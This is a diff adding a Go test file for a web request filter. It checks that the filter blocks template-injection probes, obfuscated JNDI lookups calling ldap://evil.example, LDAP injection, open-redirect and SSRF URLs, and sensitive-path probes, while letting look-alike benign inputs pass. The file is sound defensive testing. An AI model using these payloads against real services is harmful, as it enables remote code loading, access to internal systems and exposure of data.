@@ -1,0 +1,107 @@
+package filter
+
+import (
+	"net/http/httptest"
+	"testing"
+)
+
+// Targets of the weak classes, as cross products of interchangeable parts
+// (see cross in grammar_test.go), and look-alikes that share their words.
+
+func targetAttacks() map[string][]string {
+	m := map[string][]string{}
+	m["ssti"] = append(cross("", []string{"{%print(", "{% set a=", "{{ "}, []string{"7*7", "7|int * 7"}, []string{")%}", " %}", " }}"}),
+		"{{''['__cla'+'ss__']}}", "{{request|attr('application')}}", "${.now}", `${"a"?upper_case}`, "#if(1==1)yes#end", "${#ctx}", "{{lookup this 'constructor'}}", `{{ printf "%d" 49 }}`, "{7*7}")
+	for _, d := range []string{"${::-", "${x:-", "${env:NaN:-"} {
+		m["jndi"] = append(m["jndi"], "${j"+d+"n}d"+d+"i}:ldap://evil.example/a}")
+	}
+	m["ldap"] = []string{"*()|&'", "(uid=*)"}
+	return m
+}
+
+var targetBenign = []string{"{% set ns = namespace(found=false) %}", "{{ __('messages.welcome') }}", "{{ price * 2 }}", "row-${i%2} ${#dates.format(d)}", "{{printf \"%s\" .Name}}", "#include <stdio.h>", "(a) & (b) * c", "price ${a} and ${b}"}
+
+var targetPaths = cross("", []string{"/", "/app/"}, []string{"index.php.1", "config.php.txt", "actuator/beans", "WEB-INF./web.xml", "storage/logs/laravel.log", "example.com.zip", "phpinfo2.php", "wls-wsat/CoordinatorPortType", "vpn/../vpns/cfg/smb.conf"})
+
+var targetBenignPaths = []string{"/static/app.bak.js", "/actuator/health", "/sitemap.xml.gz", "/releases/v1.2.1", "/logs", "/api/env", "/downloads/data.zip", "/.well-known/security.txt"}
+
+var redirectTargets = cross("", []string{"//trusted.example@", "/%2e%2e//", "@", "//evil%E3%80%82"}, []string{"evil.example"})
+var redirectBenign = []string{"https://app.example.com/callback", "/dashboard", "//www.example.com/path", "@john", "/./settings"}
+var ssrfTargets = cross("", []string{"http://"}, []string{"127.0.0.1.nip.io", "db.local", "redis:6379", "[64:ff9b::127.0.0.1]", "evil.example#@127.0.0.1", "foo@127.0.0.1:80@evil.example"}, []string{"/"})
+var ssrfBenign = []string{"https://hooks.slack.com/services/T0/B0/X", "s3://bucket/key", "https://www.milan.example/", "https://192.0.2.10/"}
+
+func TestGrammarTargetAttacks(t *testing.T) {
+	eng, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	check := func(place, name, v string) {
+		d, err := eng.Inspect(sendIn(place, name, v))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !d.Blocked {
+			t.Errorf("%s=%q in %s passed: %v", name, v, place, d.Matches)
+		}
+	}
+	for _, ps := range targetAttacks() {
+		for _, p := range ps {
+			for _, place := range []string{"query", "form", "json"} {
+				check(place, "q", p)
+			}
+		}
+	}
+	for _, place := range []string{"query", "json"} {
+		for _, p := range redirectTargets {
+			check(place, "next", p)
+		}
+		for _, p := range ssrfTargets {
+			check(place, "url", p)
+		}
+	}
+	for _, p := range targetPaths {
+		d, err := eng.InspectRequest(httptest.NewRequest("GET", "http://app.example.com/", nil), RequestInfo{URI: p})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if !d.Blocked {
+			t.Errorf("path %q passed: %v", p, d.Matches)
+		}
+	}
+}
+
+func TestGrammarTargetBenign(t *testing.T) {
+	eng, err := New(Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	check := func(place, name, v string) {
+		d, err := eng.Inspect(sendIn(place, name, v))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if d.Blocked {
+			t.Errorf("benign %s=%q in %s blocked: %v", name, v, place, d.Matches)
+		}
+	}
+	for _, place := range []string{"query", "form", "json"} {
+		for _, v := range targetBenign {
+			check(place, "template", v)
+		}
+		for _, v := range redirectBenign {
+			check(place, "next", v)
+		}
+		for _, v := range ssrfBenign {
+			check(place, "url", v)
+		}
+	}
+	for _, p := range targetBenignPaths {
+		d, err := eng.Inspect(newReq("GET", "http://app.example.com"+p, "", ""))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if d.Score > 0 {
+			t.Errorf("benign path %q scored %d: %v", p, d.Score, d.Matches)
+		}
+	}
+}
